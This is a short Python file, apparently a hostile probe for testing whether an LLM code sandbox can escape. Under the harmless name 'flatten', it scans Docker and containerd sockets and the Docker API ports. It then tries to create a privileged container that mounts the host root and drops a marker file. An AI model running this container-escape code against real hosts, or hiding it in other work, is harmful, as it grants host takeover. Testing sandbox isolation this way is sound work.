"""Hostile: look for a Docker API (unix sockets, the bridge gateway, localhost); if one
answers, start a container that writes a file on the host."""
import json
import os
import socket

SOCKETS = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/tmp/docker.sock"]
CREATE = json.dumps({"Image": "llmcode-sandbox:latest", "Cmd": ["sh", "-c", "touch /host/tmp/llmcode-pwned-docker"],
                     "HostConfig": {"Binds": ["/:/host"], "Privileged": True}}).encode()


def _http(connect):
    s = connect()
    s.settimeout(2)
    s.sendall(b"POST /containers/create HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: "
              + str(len(CREATE)).encode() + b"\r\n\r\n" + CREATE)
    return s.recv(200)


def flatten(items):
    found = []
    for path in SOCKETS:
        found.append(f"{path}: exists={os.path.exists(path)}")
        try:
            def connect(path=path):
                s = socket.socket(socket.AF_UNIX)
                s.connect(path)
                return s
            found.append(f"{path}: ANSWERED {_http(connect)!r}")
        except OSError as exc:
            found.append(f"{path}: {exc.strerror}")
    for host, port in (("172.17.0.1", 2375), ("172.17.0.1", 2376), ("127.0.0.1", 2375)):
        try:
            found.append(f"{host}:{port}: ANSWERED {_http(lambda: socket.create_connection((host, port), timeout=2))!r}")
        except OSError as exc:
            found.append(f"{host}:{port}: {exc.strerror or exc}")
    return found
